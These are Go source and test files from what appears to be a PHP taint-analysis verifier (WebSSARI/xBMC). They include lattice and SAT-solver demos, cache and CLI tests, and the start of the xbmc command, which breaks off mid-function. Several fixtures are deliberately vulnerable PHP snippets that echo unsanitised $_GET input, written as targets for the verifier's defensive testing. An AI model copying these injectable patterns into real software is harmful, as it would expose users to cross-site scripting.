	fixed.Globals["HTTP_REFERER"] = runtime.Tainted(payload)
	if err := fixed.RunSource("track.php", patched); err != nil {
		log.Fatalf("run patched: %v", err)
	}
	fmt.Println("\nafter patching:")
	for _, q := range fixed.DB.Queries {
		fmt.Printf("  %s\n", q)
	}
	fmt.Printf("tainted sink events after patch: %d\n", len(fixed.TaintedEvents()))
}
