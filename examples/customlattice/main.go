// customlattice demonstrates that the verifier implements Denning's full
// lattice model (§3.1), not just the two-point taint lattice: a
// three-level confidentiality chain public < internal < secret, where
//
//   - publish() may only emit public data   (precondition: t < internal),
//   - intranet() may emit up to internal    (precondition: t < secret),
//   - declassify() lowers data to public    (a sanitizer in lattice terms).
//
// The same xBMC pipeline — one-hot lattice encoding and all — verifies
// information-flow policies over any finite complete lattice the prelude
// declares.
//
//	go run ./examples/customlattice
package main

import (
	"fmt"
	"log"

	"webssari"
)

const policy = `
lattice chain public internal secret

var _GET secret
var EMPLOYEE_ID internal
source read_salary secret
source read_directory internal

sink publish internal *
sink intranet secret *

sanitizer declassify public
sanitizer websafe public
`

const appPHP = `<?php
$salary = read_salary($EMPLOYEE_ID);
$phone = read_directory($EMPLOYEE_ID);

// OK: internal data may flow to the intranet page.
intranet("ext: " . $phone);

// POLICY VIOLATION: secret salary data reaches the public site.
publish("salary: " . $salary);

// POLICY VIOLATION: even the intranet must not see raw request data
// joined with secrets... the join of internal and secret is secret.
intranet($phone . $salary);

// OK: declassification lowers the level explicitly.
publish(declassify($salary));
?>`

func main() {
	rep, err := webssari.Verify([]byte(appPHP), "payroll.php",
		webssari.WithPrelude(policy))
	if err != nil {
		log.Fatalf("verify: %v", err)
	}
	fmt.Println(rep.Text)
	fmt.Printf("findings: %d (expected 2: the raw publish and the joined intranet write)\n",
		len(rep.Findings))

	patched, _, err := webssari.Patch([]byte(appPHP), "payroll.php",
		webssari.WithPrelude(policy))
	if err != nil {
		log.Fatalf("patch: %v", err)
	}
	fmt.Println("--- patched (guards declassify at the introductions) ---")
	fmt.Println(string(patched))

	rep2, err := webssari.Verify(patched, "payroll.php", webssari.WithPrelude(policy))
	if err != nil {
		log.Fatalf("re-verify: %v", err)
	}
	fmt.Printf("patched verifies safe: %v\n", rep2.Safe)
}
