// satdemo drives the CDCL SAT solver (the reproduction's ZChaff
// substitute) directly: it encodes an N-queens instance, solves it,
// enumerates solutions with blocking clauses — the same incremental loop
// the bounded model checker uses to collect all counterexamples — and
// shows an unsatisfiable pigeonhole instance with its search statistics.
//
//	go run ./examples/satdemo
package main

import (
	"fmt"

	"webssari/internal/sat"
)

func main() {
	const n = 6
	f, queenVar := queens(n)

	s := sat.New()
	f.LoadInto(s)
	if s.Solve() != sat.Sat {
		fmt.Println("unexpected: no solution")
		return
	}
	fmt.Printf("%d-queens solved (%s):\n", n, s.Stats())
	printBoard(n, queenVar, s)

	// Enumerate all solutions via blocking clauses.
	project := make([]int, 0, n*n)
	for r := 0; r < n; r++ {
		for c := 0; c < n; c++ {
			project = append(project, queenVar(r, c))
		}
	}
	models := sat.EnumerateModels(f, project, 0)
	fmt.Printf("\ntotal %d-queens solutions: %d (expected 4)\n", n, len(models))

	// Pigeonhole: provably unsatisfiable, heavy on clause learning.
	php := pigeonhole(8, 7)
	ps := sat.New()
	php.LoadInto(ps)
	res := ps.Solve()
	fmt.Printf("\npigeonhole PHP(8,7): %v (%s)\n", verdict(res), ps.Stats())
}

func verdict(r sat.Result) string {
	switch r {
	case sat.Sat:
		return "SATISFIABLE"
	case sat.Unsat:
		return "UNSATISFIABLE"
	default:
		return "UNKNOWN"
	}
}

// queens builds the n-queens CNF: one queen per row, no attacks.
func queens(n int) (*sat.CNF, func(r, c int) int) {
	f := &sat.CNF{}
	grid := make([][]int, n)
	for r := range grid {
		grid[r] = make([]int, n)
		for c := range grid[r] {
			grid[r][c] = f.NewVar()
		}
	}
	at := func(r, c int) int { return grid[r][c] }

	for r := 0; r < n; r++ {
		row := make([]sat.Lit, n)
		for c := 0; c < n; c++ {
			row[c] = sat.Lit(at(r, c))
		}
		f.AddClause(row...)
	}
	conflict := func(r1, c1, r2, c2 int) {
		f.AddClause(sat.Lit(-at(r1, c1)), sat.Lit(-at(r2, c2)))
	}
	for r1 := 0; r1 < n; r1++ {
		for c1 := 0; c1 < n; c1++ {
			for r2 := r1; r2 < n; r2++ {
				for c2 := 0; c2 < n; c2++ {
					if r1 == r2 && c2 <= c1 {
						continue
					}
					sameCol := c1 == c2
					sameRow := r1 == r2
					sameDiag := r2-r1 == c2-c1 || r2-r1 == c1-c2
					if sameRow || sameCol || sameDiag {
						conflict(r1, c1, r2, c2)
					}
				}
			}
		}
	}
	return f, at
}

func printBoard(n int, at func(r, c int) int, s *sat.Solver) {
	for r := 0; r < n; r++ {
		for c := 0; c < n; c++ {
			if s.Value(at(r, c)) {
				fmt.Print(" Q")
			} else {
				fmt.Print(" .")
			}
		}
		fmt.Println()
	}
}

func pigeonhole(pigeons, holes int) *sat.CNF {
	f := &sat.CNF{}
	at := make([][]int, pigeons)
	for p := range at {
		at[p] = make([]int, holes)
		for h := range at[p] {
			at[p][h] = f.NewVar()
		}
		cl := make([]sat.Lit, holes)
		for h := range at[p] {
			cl[h] = sat.Lit(at[p][h])
		}
		f.AddClause(cl...)
	}
	for h := 0; h < holes; h++ {
		for p1 := 0; p1 < pigeons; p1++ {
			for p2 := p1 + 1; p2 < pigeons; p2++ {
				f.AddClause(sat.Lit(-at[p1][h]), sat.Lit(-at[p2][h]))
			}
		}
	}
	return f
}
