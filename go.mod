module webssari

go 1.22
