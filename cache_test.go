package webssari_test

import (
	"os"
	"path/filepath"
	"testing"

	"webssari"
)

// TestPatchReusesCompileCache is the cache satellite's acceptance test:
// a Verify followed by a Patch of the same source must reuse the cached
// Program front end — the second compile is a cache hit, so the pipeline
// runs parse/flow/AI/rename/constraints exactly once.
func TestPatchReusesCompileCache(t *testing.T) {
	src := []byte("<?php\n$name = $_GET['name'];\necho $name;\n")

	webssari.ResetCompileCache()
	rep, err := webssari.Verify(src, "reuse.php")
	if err != nil {
		t.Fatal(err)
	}
	if rep.CacheHit {
		t.Fatal("first Verify on a cold cache reported a cache hit")
	}
	if hits, misses := webssari.CompileCacheStats(); hits != 0 || misses != 1 {
		t.Fatalf("after cold Verify: %d hits / %d misses, want 0/1", hits, misses)
	}

	_, prep, err := webssari.Patch(src, "reuse.php")
	if err != nil {
		t.Fatal(err)
	}
	if !prep.CacheHit {
		t.Fatal("Patch after Verify recompiled instead of hitting the compile cache")
	}
	if hits, misses := webssari.CompileCacheStats(); hits != 1 || misses != 1 {
		t.Fatalf("after Patch: %d hits / %d misses, want 1/1", hits, misses)
	}
	if prep.Verdict != webssari.VerdictUnsafe {
		t.Fatalf("cached Patch verdict = %q, want %q", prep.Verdict, webssari.VerdictUnsafe)
	}
}

// TestCompileCacheKeyedByOptions: the same source compiled under
// different flow options must not share a cache entry — the key covers
// everything that feeds the deterministic front end.
func TestCompileCacheKeyedByOptions(t *testing.T) {
	src := []byte("<?php\n$v = $_GET['x'];\nwhile ($c) { $v = htmlspecialchars($v); }\necho $v;\n")

	webssari.ResetCompileCache()
	if _, err := webssari.Verify(src, "opts.php"); err != nil {
		t.Fatal(err)
	}
	if _, err := webssari.Verify(src, "opts.php", webssari.WithLoopUnroll(3)); err != nil {
		t.Fatal(err)
	}
	if hits, misses := webssari.CompileCacheStats(); hits != 0 || misses != 2 {
		t.Fatalf("distinct unroll factors shared a cache entry: %d hits / %d misses, want 0/2", hits, misses)
	}
	// Same options again: now it hits.
	rep, err := webssari.Verify(src, "opts.php", webssari.WithLoopUnroll(3))
	if err != nil {
		t.Fatal(err)
	}
	if !rep.CacheHit {
		t.Fatal("identical (source, options) pair missed the cache")
	}
}

// TestCompileCacheIncludeInvalidation: a cached Program snapshots the
// hashes of every include it resolved; editing an included file on disk
// must invalidate the entry, or the verifier would report stale verdicts
// for unchanged entry points.
func TestCompileCacheIncludeInvalidation(t *testing.T) {
	dir := t.TempDir()
	lib := filepath.Join(dir, "lib.php")
	main := []byte("<?php\ninclude 'lib.php';\necho $x;\n")
	if err := os.WriteFile(lib, []byte("<?php\n$x = 'constant';\n"), 0o644); err != nil {
		t.Fatal(err)
	}

	webssari.ResetCompileCache()
	rep, err := webssari.Verify(main, filepath.Join(dir, "main.php"), webssari.WithDir(dir))
	if err != nil {
		t.Fatal(err)
	}
	if rep.Verdict != webssari.VerdictSafe {
		t.Fatalf("constant include judged %q, want %q", rep.Verdict, webssari.VerdictSafe)
	}

	// The entry source is untouched, but the included file now taints $x.
	if err := os.WriteFile(lib, []byte("<?php\n$x = $_GET['q'];\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	rep, err = webssari.Verify(main, filepath.Join(dir, "main.php"), webssari.WithDir(dir))
	if err != nil {
		t.Fatal(err)
	}
	if rep.CacheHit {
		t.Fatal("stale cache hit: edited include was not revalidated")
	}
	if rep.Verdict != webssari.VerdictUnsafe {
		t.Fatalf("after include edit: verdict %q, want %q (stale Program served from cache?)",
			rep.Verdict, webssari.VerdictUnsafe)
	}

	// A previously-missing include appearing on disk must also invalidate.
	webssari.ResetCompileCache()
	missing := []byte("<?php\ninclude 'extra.php';\necho $y;\n")
	if _, err := webssari.Verify(missing, filepath.Join(dir, "m2.php"), webssari.WithDir(dir)); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "extra.php"), []byte("<?php\n$y = $_GET['q'];\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	rep, err = webssari.Verify(missing, filepath.Join(dir, "m2.php"), webssari.WithDir(dir))
	if err != nil {
		t.Fatal(err)
	}
	if rep.CacheHit {
		t.Fatal("stale cache hit: include that newly appeared on disk was not re-probed")
	}
	if rep.Verdict != webssari.VerdictUnsafe {
		t.Fatalf("newly-resolvable include: verdict %q, want %q", rep.Verdict, webssari.VerdictUnsafe)
	}
}
