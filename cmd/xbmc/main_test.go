package main

import (
	"encoding/json"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func writePHP(t *testing.T, src string) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "t.php")
	if err := os.WriteFile(path, []byte(src), 0o644); err != nil {
		t.Fatal(err)
	}
	return path
}

const vulnSrc = `<?php
if ($c) { $x = $_GET['a']; } else { $x = 'ok'; }
echo $x;
?>`

func TestStages(t *testing.T) {
	path := writePHP(t, vulnSrc)
	for _, stage := range []string{"ai", "renamed", "constraints", "cnf"} {
		if code := run([]string{"-stage", stage, path}); code != 0 {
			t.Fatalf("stage %s: exit = %d", stage, code)
		}
	}
}

func TestCNFDump(t *testing.T) {
	path := writePHP(t, vulnSrc)
	out := t.TempDir()
	if code := run([]string{"-stage", "cnf", "-o", out, path}); code != 0 {
		t.Fatalf("exit = %d", code)
	}
	data, err := os.ReadFile(filepath.Join(out, "assert_0.cnf"))
	if err != nil {
		t.Fatalf("missing DIMACS dump: %v", err)
	}
	if len(data) == 0 {
		t.Fatalf("empty DIMACS dump")
	}
}

func TestVerifyDefaultStage(t *testing.T) {
	if code := run([]string{writePHP(t, vulnSrc)}); code != 1 {
		t.Fatalf("vulnerable: exit = %d, want 1", code)
	}
	if code := run([]string{writePHP(t, `<?php echo 'ok';`)}); code != 0 {
		t.Fatalf("safe: exit = %d, want 0", code)
	}
}

func TestNaiveMode(t *testing.T) {
	if code := run([]string{"-naive", writePHP(t, vulnSrc)}); code != 1 {
		t.Fatalf("naive vulnerable: exit = %d, want 1", code)
	}
	if code := run([]string{"-naive", writePHP(t, `<?php $x = 'safe'; echo $x;`)}); code != 0 {
		t.Fatalf("naive safe: exit = %d, want 0", code)
	}
}

func TestUsageErrors(t *testing.T) {
	if code := run(nil); code != 2 {
		t.Fatalf("no args: exit = %d", code)
	}
	if code := run([]string{"/no/such.php"}); code != 2 {
		t.Fatalf("missing file: exit = %d", code)
	}
	if code := run([]string{"-stage", "bogus", writePHP(t, vulnSrc)}); code != 2 {
		t.Fatalf("bad stage: exit = %d", code)
	}
}

// TestTraceAndMetricsFlags drives the observability path end to end:
// single-file and directory modes both write a parseable Chrome
// trace-event JSON with the expected pipeline spans, with the metrics
// server bound to an ephemeral port.
func TestTraceAndMetricsFlags(t *testing.T) {
	spanNames := func(tracePath string) map[string]int {
		t.Helper()
		data, err := os.ReadFile(tracePath)
		if err != nil {
			t.Fatalf("trace not written: %v", err)
		}
		var trace struct {
			TraceEvents []struct {
				Name string `json:"name"`
				Ph   string `json:"ph"`
			} `json:"traceEvents"`
		}
		if err := json.Unmarshal(data, &trace); err != nil {
			t.Fatalf("trace is not valid JSON: %v", err)
		}
		names := map[string]int{}
		for _, ev := range trace.TraceEvents {
			if ev.Ph != "X" {
				t.Errorf("unexpected phase %q", ev.Ph)
			}
			names[ev.Name]++
		}
		return names
	}

	tracePath := filepath.Join(t.TempDir(), "single.json")
	if code := run([]string{"-trace", tracePath, "-metrics-addr", ":0", "-v", writePHP(t, vulnSrc)}); code != 1 {
		t.Fatalf("single-file exit = %d, want 1", code)
	}
	names := spanNames(tracePath)
	for _, stage := range []string{"parse", "flow", "rename", "constraints", "solve", "verify_file"} {
		if names[stage] != 1 {
			t.Errorf("single file: %d %q spans, want 1 (%v)", names[stage], stage, names)
		}
	}

	dir := t.TempDir()
	for name, src := range map[string]string{
		"a.php": `<?php echo $_GET['x'];`,
		"b.php": `<?php echo 'safe';`,
	} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(src), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	tracePath = filepath.Join(t.TempDir(), "dir.json")
	if code := run([]string{"-trace", tracePath, "-metrics-addr", ":0", "-v", dir}); code != 1 {
		t.Fatalf("directory exit = %d, want 1", code)
	}
	names = spanNames(tracePath)
	if names["verify_dir"] != 1 || names["parse"] != 2 {
		t.Errorf("directory spans = %v, want 1 verify_dir and 2 parse", names)
	}
}

// TestDirectoryRejectsStageFlags pins the usage error.
func TestDirectoryRejectsStageFlags(t *testing.T) {
	if code := run([]string{"-stage", "ai", t.TempDir()}); code != 2 {
		t.Fatalf("-stage on a directory: exit = %d, want 2", code)
	}
	if code := run([]string{"-naive", t.TempDir()}); code != 2 {
		t.Fatalf("-naive on a directory: exit = %d, want 2", code)
	}
}

// captureStdout runs fn with os.Stdout redirected to a pipe and returns
// what it wrote.
func captureStdout(t *testing.T, fn func()) string {
	t.Helper()
	old := os.Stdout
	r, w, err := os.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	os.Stdout = w
	done := make(chan string, 1)
	go func() {
		data, _ := io.ReadAll(r)
		done <- string(data)
	}()
	fn()
	os.Stdout = old
	w.Close()
	return <-done
}

// TestNDJSONDirectoryMode checks -ndjson: one JSON line per file, then a
// project summary line, and nothing else on stdout.
func TestNDJSONDirectoryMode(t *testing.T) {
	dir := t.TempDir()
	for name, src := range map[string]string{
		"vuln.php": vulnSrc,
		"safe.php": `<?php echo 'ok';`,
	} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(src), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	var code int
	out := captureStdout(t, func() {
		code = run([]string{"-ndjson", dir})
	})
	if code != 1 {
		t.Fatalf("exit = %d, want 1", code)
	}
	lines := strings.Split(strings.TrimSpace(out), "\n")
	if len(lines) != 3 {
		t.Fatalf("ndjson emitted %d lines, want 3 (2 files + summary):\n%s", len(lines), out)
	}
	verdicts := map[string]string{}
	for _, line := range lines[:2] {
		var rep struct {
			File    string `json:"file"`
			Verdict string `json:"verdict"`
		}
		if err := json.Unmarshal([]byte(line), &rep); err != nil {
			t.Fatalf("per-file line not JSON: %v\n%s", err, line)
		}
		verdicts[filepath.Base(rep.File)] = rep.Verdict
	}
	if verdicts["vuln.php"] != "unsafe" || verdicts["safe.php"] != "safe" {
		t.Fatalf("per-file verdicts: %v", verdicts)
	}
	var summary struct {
		Dir             string `json:"dir"`
		Files           []any  `json:"files"`
		VulnerableFiles int    `json:"vulnerable_files"`
	}
	if err := json.Unmarshal([]byte(lines[2]), &summary); err != nil {
		t.Fatalf("summary line not JSON: %v\n%s", err, lines[2])
	}
	if summary.Dir != dir || summary.VulnerableFiles != 1 || len(summary.Files) != 0 {
		t.Fatalf("summary line: %+v", summary)
	}
}

// TestNDJSONRequiresDirectory pins the flag's scope.
func TestNDJSONRequiresDirectory(t *testing.T) {
	if code := run([]string{"-ndjson", writePHP(t, vulnSrc)}); code != 2 {
		t.Fatalf("-ndjson on a file exited %d, want 2", code)
	}
}

// TestStoreFlagDirectoryMode runs a directory twice against one store:
// identical exit codes, and the store root gains blobs.
func TestStoreFlagDirectoryMode(t *testing.T) {
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "v.php"), []byte(vulnSrc), 0o644); err != nil {
		t.Fatal(err)
	}
	storeRoot := filepath.Join(t.TempDir(), "cache")
	if code := run([]string{"-store", storeRoot, dir}); code != 1 {
		t.Fatalf("cold run exit = %d, want 1", code)
	}
	var blobs int
	err := filepath.WalkDir(filepath.Join(storeRoot, "objects"), func(path string, d os.DirEntry, err error) error {
		if err == nil && !d.IsDir() {
			blobs++
		}
		return err
	})
	if err != nil || blobs == 0 {
		t.Fatalf("store not populated: %d blobs, err %v", blobs, err)
	}
	if code := run([]string{"-store", storeRoot, dir}); code != 1 {
		t.Fatalf("warm run exit = %d, want 1", code)
	}
}

// TestVersionFlag checks -version prints and exits 0.
func TestVersionFlag(t *testing.T) {
	out := captureStdout(t, func() {
		if code := run([]string{"-version"}); code != 0 {
			t.Errorf("-version exited non-zero")
		}
	})
	if !strings.HasPrefix(out, "xbmc ") {
		t.Fatalf("-version banner: %q", out)
	}
}
