package main

import (
	"os"
	"path/filepath"
	"testing"
)

func writePHP(t *testing.T, src string) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "t.php")
	if err := os.WriteFile(path, []byte(src), 0o644); err != nil {
		t.Fatal(err)
	}
	return path
}

const vulnSrc = `<?php
if ($c) { $x = $_GET['a']; } else { $x = 'ok'; }
echo $x;
?>`

func TestStages(t *testing.T) {
	path := writePHP(t, vulnSrc)
	for _, stage := range []string{"ai", "renamed", "constraints", "cnf"} {
		if code := run([]string{"-stage", stage, path}); code != 0 {
			t.Fatalf("stage %s: exit = %d", stage, code)
		}
	}
}

func TestCNFDump(t *testing.T) {
	path := writePHP(t, vulnSrc)
	out := t.TempDir()
	if code := run([]string{"-stage", "cnf", "-o", out, path}); code != 0 {
		t.Fatalf("exit = %d", code)
	}
	data, err := os.ReadFile(filepath.Join(out, "assert_0.cnf"))
	if err != nil {
		t.Fatalf("missing DIMACS dump: %v", err)
	}
	if len(data) == 0 {
		t.Fatalf("empty DIMACS dump")
	}
}

func TestVerifyDefaultStage(t *testing.T) {
	if code := run([]string{writePHP(t, vulnSrc)}); code != 1 {
		t.Fatalf("vulnerable: exit = %d, want 1", code)
	}
	if code := run([]string{writePHP(t, `<?php echo 'ok';`)}); code != 0 {
		t.Fatalf("safe: exit = %d, want 0", code)
	}
}

func TestNaiveMode(t *testing.T) {
	if code := run([]string{"-naive", writePHP(t, vulnSrc)}); code != 1 {
		t.Fatalf("naive vulnerable: exit = %d, want 1", code)
	}
	if code := run([]string{"-naive", writePHP(t, `<?php $x = 'safe'; echo $x;`)}); code != 0 {
		t.Fatalf("naive safe: exit = %d, want 0", code)
	}
}

func TestUsageErrors(t *testing.T) {
	if code := run(nil); code != 2 {
		t.Fatalf("no args: exit = %d", code)
	}
	if code := run([]string{"/no/such.php"}); code != 2 {
		t.Fatalf("missing file: exit = %d", code)
	}
	if code := run([]string{"-stage", "bogus", writePHP(t, vulnSrc)}); code != 2 {
		t.Fatalf("bad stage: exit = %d", code)
	}
}
