package main

import (
	"encoding/json"
	"os"
	"path/filepath"
	"testing"
)

func writePHP(t *testing.T, src string) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "t.php")
	if err := os.WriteFile(path, []byte(src), 0o644); err != nil {
		t.Fatal(err)
	}
	return path
}

const vulnSrc = `<?php
if ($c) { $x = $_GET['a']; } else { $x = 'ok'; }
echo $x;
?>`

func TestStages(t *testing.T) {
	path := writePHP(t, vulnSrc)
	for _, stage := range []string{"ai", "renamed", "constraints", "cnf"} {
		if code := run([]string{"-stage", stage, path}); code != 0 {
			t.Fatalf("stage %s: exit = %d", stage, code)
		}
	}
}

func TestCNFDump(t *testing.T) {
	path := writePHP(t, vulnSrc)
	out := t.TempDir()
	if code := run([]string{"-stage", "cnf", "-o", out, path}); code != 0 {
		t.Fatalf("exit = %d", code)
	}
	data, err := os.ReadFile(filepath.Join(out, "assert_0.cnf"))
	if err != nil {
		t.Fatalf("missing DIMACS dump: %v", err)
	}
	if len(data) == 0 {
		t.Fatalf("empty DIMACS dump")
	}
}

func TestVerifyDefaultStage(t *testing.T) {
	if code := run([]string{writePHP(t, vulnSrc)}); code != 1 {
		t.Fatalf("vulnerable: exit = %d, want 1", code)
	}
	if code := run([]string{writePHP(t, `<?php echo 'ok';`)}); code != 0 {
		t.Fatalf("safe: exit = %d, want 0", code)
	}
}

func TestNaiveMode(t *testing.T) {
	if code := run([]string{"-naive", writePHP(t, vulnSrc)}); code != 1 {
		t.Fatalf("naive vulnerable: exit = %d, want 1", code)
	}
	if code := run([]string{"-naive", writePHP(t, `<?php $x = 'safe'; echo $x;`)}); code != 0 {
		t.Fatalf("naive safe: exit = %d, want 0", code)
	}
}

func TestUsageErrors(t *testing.T) {
	if code := run(nil); code != 2 {
		t.Fatalf("no args: exit = %d", code)
	}
	if code := run([]string{"/no/such.php"}); code != 2 {
		t.Fatalf("missing file: exit = %d", code)
	}
	if code := run([]string{"-stage", "bogus", writePHP(t, vulnSrc)}); code != 2 {
		t.Fatalf("bad stage: exit = %d", code)
	}
}

// TestTraceAndMetricsFlags drives the observability path end to end:
// single-file and directory modes both write a parseable Chrome
// trace-event JSON with the expected pipeline spans, with the metrics
// server bound to an ephemeral port.
func TestTraceAndMetricsFlags(t *testing.T) {
	spanNames := func(tracePath string) map[string]int {
		t.Helper()
		data, err := os.ReadFile(tracePath)
		if err != nil {
			t.Fatalf("trace not written: %v", err)
		}
		var trace struct {
			TraceEvents []struct {
				Name string `json:"name"`
				Ph   string `json:"ph"`
			} `json:"traceEvents"`
		}
		if err := json.Unmarshal(data, &trace); err != nil {
			t.Fatalf("trace is not valid JSON: %v", err)
		}
		names := map[string]int{}
		for _, ev := range trace.TraceEvents {
			if ev.Ph != "X" {
				t.Errorf("unexpected phase %q", ev.Ph)
			}
			names[ev.Name]++
		}
		return names
	}

	tracePath := filepath.Join(t.TempDir(), "single.json")
	if code := run([]string{"-trace", tracePath, "-metrics-addr", ":0", "-v", writePHP(t, vulnSrc)}); code != 1 {
		t.Fatalf("single-file exit = %d, want 1", code)
	}
	names := spanNames(tracePath)
	for _, stage := range []string{"parse", "flow", "rename", "constraints", "solve", "verify_file"} {
		if names[stage] != 1 {
			t.Errorf("single file: %d %q spans, want 1 (%v)", names[stage], stage, names)
		}
	}

	dir := t.TempDir()
	for name, src := range map[string]string{
		"a.php": `<?php echo $_GET['x'];`,
		"b.php": `<?php echo 'safe';`,
	} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(src), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	tracePath = filepath.Join(t.TempDir(), "dir.json")
	if code := run([]string{"-trace", tracePath, "-metrics-addr", ":0", "-v", dir}); code != 1 {
		t.Fatalf("directory exit = %d, want 1", code)
	}
	names = spanNames(tracePath)
	if names["verify_dir"] != 1 || names["parse"] != 2 {
		t.Errorf("directory spans = %v, want 1 verify_dir and 2 parse", names)
	}
}

// TestDirectoryRejectsStageFlags pins the usage error.
func TestDirectoryRejectsStageFlags(t *testing.T) {
	if code := run([]string{"-stage", "ai", t.TempDir()}); code != 2 {
		t.Fatalf("-stage on a directory: exit = %d, want 2", code)
	}
	if code := run([]string{"-naive", t.TempDir()}); code != 2 {
		t.Fatalf("-naive on a directory: exit = %d, want 2", code)
	}
}
