// Command xbmc exposes the bounded model checker's pipeline stages for one
// PHP file — the Figure 6 translation chain:
//
//	xbmc -stage ai file.php          print AI(F(p))
//	xbmc -stage renamed file.php     print the single-assignment form ρ
//	xbmc -stage constraints file.php print the Figure 5 constraint system
//	xbmc -stage cnf file.php         print per-assertion CNF sizes (DIMACS to -o)
//	xbmc file.php                    verify and print per-assertion results
//	xbmc dir/                        verify every PHP file under a directory
//
// The -naive flag switches to the xBMC0.1 location-variable encoding
// (§3.3.1) so its blow-up can be inspected directly.
//
// The -policy flag selects the active security policy — a built-in name
// (default|xss-context|ssrf) or a JSON policy file — in every mode;
// with -remote the declaration travels with the submission.
//
// The -timeout and -max-conflicts flags bound the search; an assertion
// left undecided prints UNKNOWN with its cause and the command exits 3
// (incomplete) instead of claiming the program safe. The -j flag fans
// independent assertions out across a worker pool, and -v prints the
// run profile (per-stage wall time and solver effort) to stderr.
//
// The -solver-mode flag selects the solver dispatch mode — per-assert
// (default), shared (one incremental solver per file, learnt clauses
// carried across assertions), or portfolio (race -portfolio solver
// configurations per hard assertion) — in every local mode, and the
// selection travels with -remote submissions as the job's solver spec.
//
// Observability: -trace FILE writes a Chrome trace-event JSON of every
// pipeline span (load it in chrome://tracing or Perfetto) — the file is
// written even when the run exits early on an error; -metrics-addr ADDR
// serves a Prometheus /metrics page plus /debug/vars, /debug/pprof/,
// and the /debug/events flight recorder for the duration of the run
// (":0" picks a free port; the chosen address is printed to stderr);
// -log-level and -log-format control the structured log stream on
// stderr (text or JSON).
//
// In directory mode, -ndjson replaces the plain per-file lines with the
// newline-delimited JSON stream the webssarid daemon emits — one report
// object per file as it completes, then one final project summary line —
// and -store DIR attaches the persistent result store so unchanged
// files re-verify from disk across runs. -incremental (requires -store)
// additionally maintains a persistent include-dependency graph and
// re-verifies only files whose content or transitive includes changed
// since the last run. -version prints the build's version banner and
// exits.
//
// Remote mode: -remote URL hands the target to a running webssarid
// daemon through the typed client package instead of verifying
// in-process — a file's source is uploaded, a directory path is resolved
// on the daemon's filesystem. -watch (directories only) keeps the remote
// job alive, re-verifying on every change and streaming each round's
// NDJSON lines to stdout until interrupted (Ctrl-C cancels the job
// server-side before exiting).
package main

import (
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"os/signal"
	"time"

	"webssari"
	"webssari/client"
	"webssari/internal/buildinfo"
	"webssari/internal/cnf"
	"webssari/internal/constraint"
	"webssari/internal/core"
	"webssari/internal/flow"
	"webssari/internal/ir"
	"webssari/internal/policy"
	"webssari/internal/prelude"
	"webssari/internal/rename"
	"webssari/internal/sat"
	"webssari/internal/service"
	"webssari/internal/telemetry"
)

func main() {
	os.Exit(run(os.Args[1:]))
}

func run(args []string) int {
	fs := flag.NewFlagSet("xbmc", flag.ContinueOnError)
	var (
		stage       = fs.String("stage", "", "dump a pipeline stage: ai | renamed | constraints | cnf")
		dumpIR      = fs.Bool("dump-ir", false, "print each file's typed flow IR and exit (no solving)")
		naive       = fs.Bool("naive", false, "use the xBMC0.1 location-variable encoding")
		unroll      = fs.Int("unroll", 1, "loop deconstruction factor")
		policyArg   = fs.String("policy", "", "security policy: a built-in name or a policy JSON file")
		outDir      = fs.String("o", "", "directory for DIMACS dumps (with -stage cnf)")
		timeout     = fs.Duration("timeout", 0, "wall-clock deadline for verification (0 = none)")
		maxConf     = fs.Uint64("max-conflicts", 0, "SAT conflict budget per solver call (0 = unlimited)")
		solverMode  = fs.String("solver-mode", "", "solver dispatch mode: per-assert|shared|portfolio")
		portfolio   = fs.Int("portfolio", 0, "portfolio lane count raced per hard assertion (0 = engine default)")
		jobs        = fs.Int("j", 0, "assertion-level worker count (0 = sequential)")
		verbose     = fs.Bool("v", false, "print the run profile to stderr")
		traceFile   = fs.String("trace", "", "write Chrome trace-event JSON to this file")
		metricsAddr = fs.String("metrics-addr", "", "serve /metrics, /debug/vars, /debug/pprof on this address (\":0\" picks a free port)")
		logLevel    = fs.String("log-level", "info", "structured log level: debug|info|warn|error")
		logFormat   = fs.String("log-format", "text", "structured log encoding: text|json")
		ndjsonOut   = fs.Bool("ndjson", false, "directory mode: stream per-file reports as NDJSON to stdout")
		storeDir    = fs.String("store", "", "directory mode: persistent result store directory (\"\" disables)")
		incremental = fs.Bool("incremental", false, "directory mode: delta re-verification via the dependency graph (requires -store)")
		remoteURL   = fs.String("remote", "", "verify via a webssarid daemon at this base URL instead of in-process")
		watchMode   = fs.Bool("watch", false, "remote directory mode: re-verify on every change until interrupted")
		version     = fs.Bool("version", false, "print version and exit")
	)
	if err := fs.Parse(args); err != nil {
		return 2
	}
	if *version {
		fmt.Println(buildinfo.Version("xbmc"))
		return 0
	}
	if fs.NArg() != 1 {
		fmt.Fprintln(os.Stderr, "xbmc: exactly one PHP file or directory expected")
		return 2
	}
	if *jobs < 0 {
		fmt.Fprintf(os.Stderr, "xbmc: -j must be ≥ 0, got %d\n", *jobs)
		return 2
	}
	if *dumpIR {
		if *remoteURL != "" || *stage != "" || *naive {
			fmt.Fprintln(os.Stderr, "xbmc: -dump-ir cannot combine with -remote, -stage, or -naive")
			return 2
		}
		if err := ir.DumpTree(os.Stdout, os.Stderr, fs.Arg(0)); err != nil {
			fmt.Fprintf(os.Stderr, "xbmc: %v\n", err)
			return 2
		}
		return 0
	}
	if *watchMode && *remoteURL == "" {
		fmt.Fprintln(os.Stderr, "xbmc: -watch requires -remote (watch jobs run on the daemon)")
		return 2
	}
	pc, policyName, policyJSON, err := resolvePolicy(*policyArg)
	if err != nil {
		fmt.Fprintf(os.Stderr, "xbmc: -policy %s: %v\n", *policyArg, err)
		return 2
	}
	// Resolved up front so an unknown mode errors identically in local,
	// directory, and remote modes.
	coreMode, err := resolveSolverMode(*solverMode)
	if err != nil {
